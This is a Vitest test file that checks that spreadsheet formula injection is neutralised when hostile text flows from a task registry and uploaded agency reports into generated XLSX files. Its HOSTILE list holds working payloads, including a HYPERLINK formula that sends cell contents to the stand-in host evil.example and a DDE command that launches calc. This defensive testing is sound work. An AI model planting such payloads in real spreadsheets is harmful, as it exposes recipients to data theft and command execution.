/**
 * Formula injection, end to end: hostile text enters where it really can — the registry (task content, lead,
 * deadline, section, STT as imported from directive documents) and an agency's uploaded report (its cells) —
 * flows through the real ingest handler into the store, and out through EVERY XLSX we write (the writers in
 * shared/: shared/digest/xlsx.ts on shared/digest/xlsx-xml.ts, and exceljs in shared/templates/xlsx.ts). The files are checked at the XML
 * level, independently of exceljs: no cell formula anywhere, and no text cell a spreadsheet would read as one.
 * (tests/digest and tests/templates check safeCell and one hostile task content; here all fields, via ingest.)
 */
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { readdirSync, readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildDigest, renderDigest } from '#shared/digest';
import type { Task } from '#shared/domain/task';
import { seedRegistry } from '#shared/registry';
import { buildTemplate, directoryLookup, parsePeriod } from '#shared/templates';
import { useLocalStack } from '#testkit/local-stack';
import { upload } from '#testkit/resilience-world';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1'];
const env = useLocalStack();
let tasks: Task[];

/** every worksheet's XML and every string (shared and inline) of an XLSX. */
function xlsxParts(bytes: Uint8Array): { sheets: string[]; strings: string[] } {
  const files = unzipSync(bytes);
  const sheets = Object.entries(files).filter(([n]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).map(([, b]) => strFromU8(b));
  const xml = [strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array()), ...sheets].join('\n');
  const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'")
    .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCharCode(parseInt(h, 16))).replace(/&#(\d+);/g, (_, d) => String.fromCharCode(Number(d)))
    .replace(/_x([0-9A-F]{4})_/g, (_, h) => String.fromCharCode(parseInt(h, 16))).replace(/&amp;/g, '&');
  // a shared or inline string (<si>, <is>) may be split in rich-text runs: join its <t> parts
  const strings = [...xml.matchAll(/<(si|is)>([\s\S]*?)<\/\1>/g)].map((m) => [...m[2]!.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)].map((t) => unescape(t[1]!)).join(''));
  // the streaming writer stores text as t="str" cells with the value in <v>
  for (const m of xml.matchAll(/<c\b[^>]*\bt="str"[^>]*>([\s\S]*?)<\/c>/g)) {
    const v = /<v>([\s\S]*?)<\/v>/.exec(m[1]!);
    if (v) strings.push(unescape(v[1]!));
  }
  return { sheets, strings };
}

function expectInert(name: string, bytes: Uint8Array) {
  const { sheets, strings } = xlsxParts(bytes);
  expect(sheets.length, name).toBeGreaterThan(0);
  for (const s of sheets) expect(s, `${name}: a cell formula`).not.toMatch(/<f[\s>]/);
  const live = strings.filter((s) => /^[=+\-@\t\r]/.test(s));
  expect(live, `${name}: text a spreadsheet reads as a formula`).toEqual([]);
  return strings;
}

beforeAll(async () => {
  // the registry as imported, with hostile text in every field a directive document supplies
  const seed = seedRegistry();
  const mine = seed.filter((t) => t.lead.ids.includes('bo-tu-phap')).slice(0, HOSTILE.length);
  expect(mine.length).toBe(HOSTILE.length);
  const hostile = new Map(mine.map((t, i) => [t.id, {
    ...t,
    content: `${HOSTILE[i]} ${t.content}`,
    lead: { ...t.lead, raw: HOSTILE[(i + 1) % HOSTILE.length]! + t.lead.raw },
    deadline: { ...t.deadline, raw: HOSTILE[(i + 2) % HOSTILE.length]! },
    ...(t.section ? { section: { ...t.section, title: HOSTILE[(i + 3) % HOSTILE.length]! } } : {}),
    stt: i === 0 ? '=1' : t.stt,
  }]));
  tasks = seed.map((t) => hostile.get(t.id) ?? t);
  await env.store.putTasks(tasks);

  // an agency's report whose cells are hostile: content, result and note
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Phụ lục 01');
  ws.addRow(['STT', 'Nội dung nhiệm vụ', 'Đơn vị chủ trì', 'Thời hạn hoàn thành', 'Tình hình thực hiện', 'Kết quả', 'Ghi chú']);
  mine.forEach((t, i) => ws.addRow([i + 1, t.content, t.lead.raw, t.deadline.raw, i % 2 ? 'Chưa hoàn thành' : 'Đã hoàn thành', HOSTILE[i], HOSTILE[(i + 4) % HOSTILE.length]]));
  ws.addRow([HOSTILE.length + 1, HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4], HOSTILE[5]]);
  await upload(env, 'uploads/bo-tu-phap/bao-cao-doc-hai.xlsx', new Uint8Array(await wb.xlsx.writeBuffer()));
  await env.stack.idle();
});

describe('every XLSX we write', () => {
  it('the exceljs writers in shared/ are the two checked here', () => {
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const p = `${dir}/${e.name}`;
        if (e.isDirectory()) walk(p);
        else if (p.endsWith('.ts') && /\.xlsx\.write|addWorksheet|WorkbookWriter/.test(readFileSync(p, 'utf8'))) writers.push(p);
      }
    };
    walk(new URL('../../shared', import.meta.url).pathname.replace(/\/$/, ''));
    // the digest's workbook is written as SpreadsheetML by shared/digest/xlsx-xml.ts (checked through the digest here)
    expect(writers.map((p) => p.replace(/^.*\/shared\//, 'shared/')).sort()).toEqual(['shared/digest/xlsx-xml.ts', 'shared/digest/xlsx.ts', 'shared/templates/xlsx.ts']);
  });

  it('the digest (built from the store after ingest): no formula, hostile text inert', async () => {
    const reports = await env.store.listReports();
    expect(reports[0]).toMatchObject({ state: 'processed' });
    const asOf = new Date().toISOString().slice(0, 10);
    const rendered = await renderDigest(await buildDigest({ store: env.store, asOf }));
    const strings = expectInert('digest.xlsx', new Uint8Array(rendered.xlsx));
    // the hostile text did reach the file, neutralised (not dropped)
    expect(strings.some((s) => HOSTILE.some((h) => s.includes(`'${h}`) || s.startsWith(`'${h.slice(0, 8)}`)))).toBe(true);
  });

  it('the agency template (Phụ lục 01 pre-filled from the registry): no formula, hostile text inert', async () => {
    const built = await buildTemplate({
      agencyId: 'bo-tu-phap', agencyName: 'Bộ Tư pháp', period: parsePeriod(`năm ${new Date().getFullYear()}`),
      tasks, dir: await directoryLookup(), formats: ['xlsx'],
    });
    const strings = expectInert('template.xlsx', built.files[0]!.bytes);
    expect(strings.filter((s) => HOSTILE.some((h) => s.startsWith(`'${h.slice(0, 8)}`))).length).toBeGreaterThan(0);
  });
});
